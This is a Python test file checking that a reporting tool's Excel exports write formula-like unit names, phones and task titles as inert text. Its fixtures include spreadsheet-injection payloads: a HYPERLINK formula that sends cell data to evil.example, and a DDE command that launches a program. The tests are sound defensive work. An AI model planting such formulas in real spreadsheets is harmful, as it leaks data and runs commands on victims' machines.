"""Issue 12 items 6 and 8: stored text goes into every workbook as inert text.

Unit names, phones and task titles with ``= + - @`` in front, or with NUL/BEL/ESC inside
(data that got in before validation existed), must come out of export-roster, the report
.xlsx and the blank progress sheet as plain text cells — no formula, and no export failure.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

from factories import add_plan, add_task, add_units
from openpyxl import load_workbook
from sqlalchemy import update

from creditdesk.model import Unit
from creditdesk.output.report_xlsx import render_report_xlsx
from creditdesk.services.context import ServiceContext
from creditdesk.services.due_rules import DueRule
from creditdesk.services.obligations import regenerate
from creditdesk.services.periods import Period
from creditdesk.services.progress_sheets import write_blank_progress_sheet
from creditdesk.services.report import build_report
from creditdesk.services.roster_export import export_roster

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
DDE = "=cmd|' /C calc'!A0"
NAMES = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "县发改委\x07\x1b局")


def _office(ctx: ServiceContext) -> list[int]:
    """Five units owing a quarterly report in 2024; names and phones set straight in the DB."""
    with ctx.session_factory.begin() as session:
        units = add_units(session, *(f"单位{i}" for i in range(len(NAMES))))
        _, section = add_plan(session, 2024)
        task = add_task(
            session, section, "归集报送", "quarterly", DueRule("after_period_end", n=5),
            responsible=units,
        )  # fmt: skip
        task.title = "=1+1 归集报送"
        regenerate(session)
        ids = [u.id for u in units]
    with ctx.session_factory.begin() as session:  # as old data, bypassing validation
        for unit_id, name in zip(ids, NAMES, strict=True):
            session.execute(
                update(Unit).where(Unit.id == unit_id).values(name=name, office_phone=DDE)
            )
    return ids


def _formulas(data: bytes) -> list[str]:
    """Sheets of the workbook that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            n
            for n in archive.namelist()
            if n.startswith("xl/worksheets/") and b"<f>" in archive.read(n)
        ]


def test_export_roster_writes_formula_like_names_and_phones_as_text(
    ctx: ServiceContext, tmp_path: Path
) -> None:
    """export-roster: a name like =HYPERLINK(...) and a DDE phone stay text, control chars go."""
    _office(ctx)
    out = tmp_path / "名册.xlsx"
    assert export_roster(ctx, out) == len(NAMES)
    assert _formulas(out.read_bytes()) == []
    ws = load_workbook(out).active
    assert ws is not None
    names = [ws.cell(row, 1).value for row in range(2, 2 + len(NAMES))]
    assert sorted(names) == sorted([*NAMES[:-1], "县发改委局"])
    assert {ws.cell(row, 4).value for row in range(2, 2 + len(NAMES))} == {DDE}
    assert all(ws.cell(row, 1).data_type == "s" for row in range(2, 2 + len(NAMES)))
    hyperlink_row = names.index(HYPERLINK) + 2
    assert ws.cell(hyperlink_row, 1).quotePrefix


def test_report_xlsx_writes_formula_like_unit_names_as_text(ctx: ServiceContext) -> None:
    """The report workbook's unit and task tables hold the names as text, never formulas."""
    _office(ctx)
    report = build_report(ctx, Period.parse("2024Q3"), dt.date(2024, 11, 1))
    data = render_report_xlsx(report)
    assert _formulas(data) == []
    book = load_workbook(io.BytesIO(data))
    units = {row[1] for row in book["单位排名"].iter_rows(min_row=2, values_only=True)}
    assert {HYPERLINK, "+1+1", "@SUM(A1)", "县发改委局"} <= units


def test_progress_sheet_for_a_unit_with_formula_name_and_control_chars_is_text(
    ctx: ServiceContext, tmp_path: Path
) -> None:
    """The blank progress sheet for such units is written, with title and task as text."""
    ids = _office(ctx)
    for unit_id in (ids[0], ids[-1]):
        out = tmp_path / f"{unit_id}.xlsx"
        assert write_blank_progress_sheet(ctx, unit_id, "2024Q3", out) == 1
        assert _formulas(out.read_bytes()) == []
        ws = load_workbook(out).active
        assert ws is not None
        assert ws["C4"].value == "=1+1 归集报送"
    ws = load_workbook(tmp_path / f"{ids[-1]}.xlsx").active
    assert ws is not None and ws.title == "县发改委局"
